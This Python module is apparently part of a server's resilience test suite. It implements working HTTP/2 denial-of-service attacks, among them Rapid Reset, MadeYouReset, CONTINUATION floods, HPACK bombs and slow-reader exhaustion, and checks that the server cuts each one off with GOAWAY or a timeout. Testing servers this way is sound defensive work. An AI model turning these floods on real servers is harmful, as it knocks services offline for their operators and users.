"""HTTP/2 attacks (docs/http2.md, "Limits and defences"): Rapid Reset, MadeYouReset, PING and
SETTINGS floods, CONTINUATION floods, header lists that decode far larger than they travel,
more streams than the server allows, streams whose bodies never come, and clients that take
no response: with the flow-control window shut, or with the socket unread.

The attacker is ``H2Peer``: frames out exactly as built (hyperframe), header blocks encoded
with hpack, and frames in as parsed, with no protocol state of its own, so it can send what
a well-behaved client never would. Every connection speaks HTTP/2 with prior knowledge.
"""

from __future__ import annotations

import asyncio
import time
from dataclasses import dataclass
from typing import Any, Callable, Iterable

from h2.errors import ErrorCodes
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from loadtests.attack.clients import Peer, connect, gather_bounded, spread
from loadtests.attack.report import Attack, Outcome
from loadtests.attack.target import Target

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SEND_TIMEOUT = {True: 1.0, False: 10.0}  # --timeout-send for the slow readers (default 60 s)
BODY_TIMEOUT = {True: 1.0, False: 10.0}  # --timeout-request-body for the stalled streams (default 60 s)
MAX_STREAMS = 100  # --h2-max-concurrent-streams, the default
HEAD_LIMIT = 16 * 1024  # --limit-request-head-size, the default


class FrameBuffer:
    """What a server sent, taken off as whole frames (RFC 9113 4.1: a 9-byte header, then
    its payload's length)."""

    def __init__(self) -> None:
        self.data = b""

    def take(self, until: Callable[[Any], bool], seen: list[Any]) -> bool:
        """Append the whole frames received to ``seen`` until one satisfies ``until`` (then
        True, the rest kept for later) or none is whole (False)."""
        while len(self.data) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.data[:9]))
            if len(self.data) < 9 + length:
                break
            frame.parse_body(memoryview(self.data[9 : 9 + length]))
            self.data = self.data[9 + length :]
            seen.append(frame)
            if until(frame):
                return True
        return False


@dataclass
class Ending:
    """How the server ended a connection: its GOAWAY (if any), when, and what came before."""

    goaway: GoAwayFrame | None
    seconds: float | None  # since the peer opened; None: still open when we stopped looking
    frames: list[Any]

    def ended_with(self, code: int) -> bool:
        return self.goaway is not None and self.goaway.error_code == code


class H2Peer:
    """A raw HTTP/2 client connection (prior knowledge) on a ``Peer``."""

    def __init__(self, peer: Peer) -> None:
        self.peer = peer
        self.encoder = Encoder()
        self.received = FrameBuffer()
        self.next_stream = 1
        self.closed = False
        self.goaway: GoAwayFrame | None = None  # the last the server sent

    @classmethod
    async def open(cls, target: Target, settings: dict[int, int] | None = None,
                   rcvbuf: int | None = None) -> H2Peer:
        h2 = cls(await connect(target.host, target.port, rcvbuf))
        h2.peer.send(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())
        return h2

    def block(self, path: str = "/", method: str = "GET", extra: Iterable[tuple[str, str]] = ()) -> bytes:
        fields = [(":method", method), (":path", path), (":scheme", "http"), (":authority", "attack"), *extra]
        return self.encoder.encode(fields)

    def headers(self, path: str = "/", method: str = "GET", end_stream: bool = True) -> HeadersFrame:
        """The next stream's HEADERS frame (not sent: a flood is built once, sent in batches)."""
        frame = HeadersFrame(self.next_stream, self.block(path, method))
        self.next_stream += 2
        frame.flags.add("END_HEADERS")
        if end_stream:
            frame.flags.add("END_STREAM")
        return frame

    def send(self, *frames: Frame) -> None:
        self.peer.send(b"".join(frame.serialize() for frame in frames))

    async def drain(self, timeout: float) -> bool:
        """Wait until the server has taken what we sent; False if it closed or stopped reading."""
        try:
            await asyncio.wait_for(self.peer.writer.drain(), timeout)
        except (ConnectionError, asyncio.TimeoutError):
            return False
        return True

    async def frames(self, until: Callable[[Any], bool], timeout: float) -> list[Any]:
        """Frames from the server until one satisfies ``until`` (included), it closes (then
        ``closed``), or ``timeout`` passes."""
        seen: list[Any] = []
        deadline = time.monotonic() + timeout
        while True:
            if self.received.take(lambda frame: self._note(frame) or until(frame), seen):
                return seen
            remaining = deadline - time.monotonic()
            if remaining <= 0 or self.closed:
                return seen
            try:
                data = await asyncio.wait_for(self.peer.reader.read(1 << 20), remaining)
            except asyncio.TimeoutError:
                return seen
            except ConnectionError:
                data = b""
            if not data:
                self.closed = True
            self.received.data += data

    def _note(self, frame: Any) -> None:
        if isinstance(frame, GoAwayFrame):
            self.goaway = frame

    async def ending(self, timeout: float) -> Ending:
        """Read until the server closes: its GOAWAY, and when it closed."""
        frames = await self.frames(lambda frame: False, timeout)
        seconds = time.monotonic() - self.peer.opened if self.closed else None
        return Ending(self.goaway, seconds, frames)

    def close(self) -> None:
        self.peer.close()


async def _open_many(target: Target, count: int, **options: Any) -> list[H2Peer]:
    return list(await asyncio.gather(*(H2Peer.open(target, **options) for _ in range(count))))


def _close_all(peers: Iterable[H2Peer]) -> None:
    for peer in peers:
        peer.close()


async def _flood(peer: H2Peer, batch: Callable[[], list[Frame]], limit: int, seconds: float) -> Ending:
    """Send ``batch()`` after batch, up to ``limit`` batches or ``seconds``, while the server
    reads; then see how it ended the connection."""
    stop_at = time.monotonic() + seconds
    for _ in range(limit):
        if peer.closed or time.monotonic() > stop_at:
            break
        peer.send(*batch())
        if not await peer.drain(max(0.1, stop_at - time.monotonic())):
            break
        await peer.frames(lambda frame: isinstance(frame, GoAwayFrame), 0.001)
    return await peer.ending(10)


def _goaway_outcome(count: int, results: list[Ending | None], what: str,
                    code: int = ErrorCodes.ENHANCE_YOUR_CALM) -> Outcome:
    """The row for a flood the server must end with GOAWAY ``code`` (by default
    ENHANCE_YOUR_CALM, RFC 9113 7: "excessive load"). A server that closes while the attacker
    is still sending makes the attacker's kernel see a reset, which can discard the GOAWAY
    before it is read: such a connection counts as ended, its GOAWAY unread."""
    closed = [r for r in results if r is not None and r.seconds is not None]
    right = sum(1 for r in closed if r.ended_with(code))
    wrong = sum(1 for r in closed if r.goaway is not None and not r.ended_with(code))
    unread = f", {len(closed) - right} reset before it could be read" if len(closed) > right else ""
    return Outcome(count, f"{len(closed)}/{count} {what} ended at {spread([r.seconds for r in closed])}: "
                          f"{right} with GOAWAY {ErrorCodes(code).name} read{unread}",
                   len(closed) == count and right > 0 and not wrong)


async def rapid_reset(target: Target, quick: bool) -> Outcome:
    """CVE-2023-44487: open a stream, cancel it at once, again and again (each starts an app)."""
    count = 5 if quick else 50

    def batch(peer: H2Peer) -> list[Frame]:
        frames: list[Frame] = []
        for _ in range(100):
            headers = peer.headers("/sleep?ms=1000")
            frames += [headers, RstStreamFrame(headers.stream_id, error_code=ErrorCodes.CANCEL)]
        return frames

    peers = await _open_many(target, count)
    results = await gather_bounded((_flood(p, lambda p=p: batch(p), 100, 10) for p in peers), 30)
    _close_all(peers)
    return _goaway_outcome(count, results, "floods of HEADERS + RST_STREAM")


async def made_you_reset(target: Target, quick: bool) -> Outcome:
    """MadeYouReset (CVE-2025-8671): frames that make the server reset a stream whose app runs
    on: DATA after the client ended the stream (STREAM_CLOSED), a WINDOW_UPDATE that overflows
    its window (FLOW_CONTROL_ERROR)."""
    count = 5 if quick else 50

    def batch(peer: H2Peer) -> list[Frame]:
        frames: list[Frame] = []
        for i in range(100):
            headers = peer.headers("/sleep?ms=1000")  # with END_STREAM
            late = DataFrame(headers.stream_id, b"late")
            wrong = late if i % 2 else WindowUpdateFrame(headers.stream_id, 2**31 - 1)
            frames += [headers, wrong]
        return frames

    peers = await _open_many(target, count)
    results = await gather_bounded((_flood(p, lambda p=p: batch(p), 100, 10) for p in peers), 30)
    _close_all(peers)
    return _goaway_outcome(count, results, "floods of streams broken on purpose")


def control_flood(frame: Frame) -> Callable[[Target, bool], Any]:
    async def flood(target: Target, quick: bool) -> Outcome:
        """Frames the server must answer or note, and that carry no request."""
        count = 5 if quick else 50
        peers = await _open_many(target, count)
        results = await gather_bounded((_flood(p, lambda: [frame] * 500, 100, 10) for p in peers), 30)
        _close_all(peers)
        return _goaway_outcome(count, results, f"floods of {type(frame).__name__[:-5]}")

    return flood


async def continuation_flood(target: Target, quick: bool) -> Outcome:
    """CVE-2024-27316: a header block that never ends, in CONTINUATION frames of 1,000 bytes
    (a literal that never completes), up to 4 MiB a connection."""
    count = 5 if quick else 50
    peers = await _open_many(target, count)

    async def attack(peer: H2Peer) -> tuple[Ending, int]:
        first = HeadersFrame(1, peer.block())  # no END_HEADERS: CONTINUATION must follow
        sent = [len(first.data)]

        def batch() -> list[Frame]:
            sent[0] += 64 * 1000
            return [ContinuationFrame(1, b"\x00" * 1000)] * 64

        peer.send(first)
        ending = await _flood(peer, batch, 4 * 1024 * 1024 // 64_000, 10)
        return ending, sent[0]

    results = await gather_bounded((attack(p) for p in peers), 30)
    _close_all(peers)
    ended = [r for r in results if r is not None and r[0].seconds is not None]
    outcome = _goaway_outcome(count, [r[0] if r else None for r in results], "endless header blocks")
    if ended:
        outcome.did += f" (limit {HEAD_LIMIT // 1024} KiB; up to {max(r[1] for r in ended) // 1024:,} KiB sent " \
                       f"before the client saw it)"
    return outcome


async def empty_continuations(target: Target, quick: bool) -> Outcome:
    """The CONTINUATION flood's other form: empty frames, so the block never grows, each one
    costing the server a frame's work. h2 allows 64 CONTINUATION frames to a block, then
    ends the connection (PROTOCOL_ERROR)."""
    count = 5 if quick else 50
    peers = await _open_many(target, count)

    async def attack(peer: H2Peer) -> Ending:
        peer.send(HeadersFrame(1, peer.block()))  # no END_HEADERS
        return await _flood(peer, lambda: [ContinuationFrame(1, b"")] * 1000, 1000, 10)

    results = await gather_bounded((attack(p) for p in peers), 30)
    _close_all(peers)
    return _goaway_outcome(count, results, "floods of empty CONTINUATION frames", ErrorCodes.PROTOCOL_ERROR)


async def header_list_bombs(target: Target, quick: bool) -> Outcome:
    """A header list that decodes to 400 KB from 4 KB on the wire: a 4,000-byte field put
    in HPACK's dynamic table, then named by its index 100 times (one byte each)."""
    count = 5 if quick else 50
    peers = await _open_many(target, count)

    async def attack(peer: H2Peer) -> Ending:
        bomb = [("x-bomb", "b" * 4000)] * 100  # the encoder indexes the repeats
        frame = HeadersFrame(1, peer.block(extra=bomb))
        frame.flags.add("END_HEADERS")
        frame.flags.add("END_STREAM")
        peer.send(frame)
        return await peer.ending(10)

    results = await gather_bounded((attack(p) for p in peers), 30)
    wire = len(Encoder().encode([("x-bomb", "b" * 4000)] * 100))
    _close_all(peers)
    return _goaway_outcome(count, results, f"header blocks of {wire:,} bytes decoding to 400 KB")


async def too_many_streams(target: Target, quick: bool) -> Outcome:
    """Twice the concurrent streams the server allows, at once, each a request the app takes
    half a second over: the ones past the limit are refused alone, the others answered."""
    count = 3 if quick else 20
    peers = await _open_many(target, count)

    async def attack(peer: H2Peer) -> tuple[int, int, bool]:
        peer.send(*[peer.headers("/sleep?ms=500") for _ in range(2 * MAX_STREAMS)])
        answered: set[int] = set()
        refused: set[int] = set()

        def done(frame: Any) -> bool:
            if isinstance(frame, RstStreamFrame) and frame.error_code == ErrorCodes.REFUSED_STREAM:
                refused.add(frame.stream_id)
            elif isinstance(frame, (HeadersFrame, DataFrame)) and "END_STREAM" in frame.flags:
                answered.add(frame.stream_id)
            return len(answered) + len(refused) >= 2 * MAX_STREAMS

        frames = await peer.frames(done, 20)
        return len(answered), len(refused), not any(isinstance(f, GoAwayFrame) for f in frames)

    results = await gather_bounded((attack(p) for p in peers), 30)
    _close_all(peers)
    whole = [r for r in results if r is not None]
    answered, refused = sum(r[0] for r in whole), sum(r[1] for r in whole)
    alive = sum(1 for r in whole if r[2])
    held = alive == count and answered == count * MAX_STREAMS and refused == count * MAX_STREAMS
    return Outcome(count, f"{count}× {2 * MAX_STREAMS} streams at once: {answered:,} answered, {refused:,} refused "
                          f"(REFUSED_STREAM), {alive}/{count} connections carried on", held)


async def bodies_never_sent(target: Target, quick: bool) -> Outcome:
    """Streams that announce a body and never send it, as many as the server allows at once:
    each must meet --timeout-request-body (408 on the stream, as HTTP/1.1 answers), while the
    connection lives on."""
    count, deadline = (3, BODY_TIMEOUT[True]) if quick else (20, BODY_TIMEOUT[False])
    peers = await _open_many(target, count)
    started = time.monotonic()
    for peer in peers:
        peer.send(*[peer.headers("/upload", "POST", end_stream=False) for _ in range(MAX_STREAMS)])

    async def answered(peer: H2Peer) -> tuple[int, float, bool]:
        ended: set[int] = set()

        def all_ended(frame: Any) -> bool:
            if frame.stream_id and ("END_STREAM" in frame.flags or isinstance(frame, RstStreamFrame)):
                ended.add(frame.stream_id)
            return len(ended) == MAX_STREAMS

        await peer.frames(all_ended, deadline + 10)
        return len(ended), time.monotonic() - started, peer.closed

    results = [r for r in await gather_bounded((answered(p) for p in peers), deadline + 15) if r is not None]
    _close_all(peers)
    whole = [r for r in results if r[0] == MAX_STREAMS and not r[2]]
    times = spread([r[1] for r in whole])
    return Outcome(count * MAX_STREAMS,
                   f"{len(whole)}/{count} connections had all {MAX_STREAMS} stalled streams ended at {times} "
                   f"(body deadline {deadline:g} s), and stayed open",
                   len(whole) == count and all(r[1] < deadline + 5 for r in whole))


async def _never_read(target: Target, quick: bool, settings: dict[int, int], rcvbuf: int | None) -> Outcome:
    """Ask for 16 MiB and take none of it; the send deadline must drop the client."""
    count, deadline = (5, SEND_TIMEOUT[True]) if quick else (20, SEND_TIMEOUT[False])
    peers = await _open_many(target, count, settings=settings, rcvbuf=rcvbuf)
    for peer in peers:
        peer.send(peer.headers("/big"))
    before = target.sample()
    await asyncio.sleep(min(deadline / 2, 1.0))
    during = target.sample()
    if rcvbuf is None:  # the window is shut: read what the server sends (it can send nothing)
        results = await gather_bounded((peer.ending(deadline + 10) for peer in peers), deadline + 15)
        closed = [r.seconds for r in results if r is not None and r.seconds is not None]
    else:  # the socket is not read: wait, then see whether the server closed
        await asyncio.sleep(deadline + 5)
        closed = []
        for peer in peers:
            ending = await peer.ending(0.5)  # reads what is buffered, and the close after it
            if ending.seconds is not None:
                closed.append(ending.seconds)
    _close_all(peers)
    grew = "?" if before.rss_kib is None or during.rss_kib is None else \
        f"{max(0, during.rss_kib - before.rss_kib) / 1024:.1f} MiB"
    return Outcome(count, f"{len(closed)}/{count} dropped at {spread(closed)} (send deadline {deadline:g} s); "
                          f"the server grew {grew} while they held 16 MiB responses", len(closed) == count)


async def zero_window(target: Target, quick: bool) -> Outcome:
    """The client's flow-control window is 0 (SETTINGS_INITIAL_WINDOW_SIZE) and never opened."""
    return await _never_read(target, quick, {SettingsFrame.INITIAL_WINDOW_SIZE: 0}, None)


async def socket_never_read(target: Target, quick: bool) -> Outcome:
    """Windows wide open, and the socket never read (a receive buffer of 4 KiB)."""
    settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 2**31 - 1}
    return await _never_read(target, quick, settings, 4096)


def _send_flags(quick: bool) -> list[str]:
    return ["--timeout-send", f"{SEND_TIMEOUT[quick]:g}"]


ATTACKS = [
    Attack("Rapid Reset (CVE-2023-44487)", "HTTP/2", rapid_reset, time_limit=60),
    Attack("MadeYouReset (CVE-2025-8671)", "HTTP/2", made_you_reset, time_limit=60),
    Attack("PING floods", "HTTP/2", control_flood(PingFrame(0, b"12345678")), time_limit=60),
    Attack("SETTINGS floods", "HTTP/2", control_flood(SettingsFrame(0)), time_limit=60),
    Attack("CONTINUATION floods (CVE-2024-27316)", "HTTP/2", continuation_flood, time_limit=60),
    Attack("CONTINUATION floods, empty frames", "HTTP/2", empty_continuations, time_limit=60),
    Attack("header lists too large (HPACK bombs)", "HTTP/2", header_list_bombs, time_limit=60),
    Attack("more streams than allowed", "HTTP/2", too_many_streams, time_limit=60),
    Attack("streams whose bodies never come", "HTTP/2", bodies_never_sent,
           lambda quick: ["--timeout-request-body", f"{BODY_TIMEOUT[quick]:g}"], time_limit=60),
    Attack("slow readers: zero window on a 16 MiB response", "HTTP/2", zero_window, flags=_send_flags,
           time_limit=60),
    Attack("slow readers: socket never read", "HTTP/2", socket_never_read, flags=_send_flags, time_limit=60),
]
